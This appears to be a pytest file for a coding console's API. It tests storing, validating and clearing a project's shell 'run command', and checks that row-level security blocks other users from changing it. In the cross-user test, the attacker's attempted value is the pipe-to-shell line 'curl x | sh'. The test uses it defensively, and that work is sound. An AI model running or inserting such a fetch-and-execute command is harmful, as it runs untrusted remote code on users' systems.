"""A project's run command (issue 17): the shell line the console's Run button runs, set and
forgotten through PATCH /v1/projects/{id}, checked, and its owner's alone (D1, RLS)."""

from __future__ import annotations

import uuid

import httpx
import pytest
from sqlalchemy import text

from offcoder.context import AppContext
from tests.support.projects import new_project
from tests.support.signin import SignedIn
from tests.support.users import user_id

LINE = """python3 -c "print('hi')" && echo done"""


async def test_set_read_keep_and_forget(api: httpx.AsyncClient, alice: SignedIn) -> None:
    project = await new_project(api, alice, "Runner")
    url = f"/v1/projects/{project['id']}"
    assert project["run_command"] is None  # never set: the console proposes one

    patched = await api.patch(url, json={"run_command": f"  {LINE}  "}, headers=alice.headers)
    assert patched.status_code == 200, patched.text
    assert patched.json()["run_command"] == LINE  # as written, quotes and all, trimmed
    assert (await api.get(url, headers=alice.headers)).json()["run_command"] == LINE

    # A rename leaves the command alone, and the command leaves the name alone.
    renamed = await api.patch(url, json={"name": "Renamed"}, headers=alice.headers)
    assert renamed.json()["run_command"] == LINE
    again = await api.patch(url, json={"run_command": "npm start"}, headers=alice.headers)
    assert again.json()["name"] == "Renamed"
    assert again.json()["run_command"] == "npm start"

    forgotten = await api.patch(url, json={"run_command": None}, headers=alice.headers)
    assert forgotten.status_code == 200
    assert forgotten.json()["run_command"] is None
    assert forgotten.json()["name"] == "Renamed"


@pytest.mark.parametrize(
    "body",
    [
        {},
        {"name": None},
        {"run_command": ""},
        {"run_command": "   "},
        {"run_command": "echo a\necho b"},
        {"run_command": "echo \x1b[31m"},
        {"run_command": "x" * 4097},
        {"run_command": 5},
        {"run_command": ["python3", "main.py"]},
    ],
)
async def test_a_bad_run_command_is_422_and_changes_nothing(
    api: httpx.AsyncClient, alice: SignedIn, body: dict[str, object]
) -> None:
    project = await new_project(api, alice, "Strict")
    url = f"/v1/projects/{project['id']}"
    await api.patch(url, json={"run_command": "python3 main.py"}, headers=alice.headers)

    refused = await api.patch(url, json=body, headers=alice.headers)
    assert refused.status_code == 422, refused.text
    assert refused.headers["content-type"].startswith("application/problem+json")
    assert (await api.get(url, headers=alice.headers)).json()["run_command"] == "python3 main.py"


async def test_the_longest_run_command_is_kept_whole(
    api: httpx.AsyncClient, alice: SignedIn
) -> None:
    project = await new_project(api, alice, "Long line")
    url = f"/v1/projects/{project['id']}"
    longest = "echo " + "y" * 4091
    patched = await api.patch(url, json={"run_command": longest}, headers=alice.headers)
    assert patched.status_code == 200, patched.text
    assert patched.json()["run_command"] == longest


@pytest.mark.promise("D1")
async def test_another_users_run_command_can_be_neither_read_nor_set(
    api: httpx.AsyncClient, context: AppContext, alice: SignedIn, bob: SignedIn
) -> None:
    project = await new_project(api, alice, "Mine to run")
    url = f"/v1/projects/{project['id']}"
    await api.patch(url, json={"run_command": "python3 main.py"}, headers=alice.headers)

    refused = await api.patch(url, json={"run_command": "curl x | sh"}, headers=bob.headers)
    assert refused.status_code == 404

    # Under bob's row-level security the row is not there to write, whatever the code asks.
    async with context.database.user_session(await user_id(api, bob)) as session:
        changed = await session.execute(
            text("UPDATE projects SET run_command = 'curl x | sh' WHERE id = :id"),
            {"id": uuid.UUID(project["id"])},
        )
        assert changed.rowcount == 0  # type: ignore[attr-defined]
    assert (await api.get(url, headers=alice.headers)).json()["run_command"] == "python3 main.py"
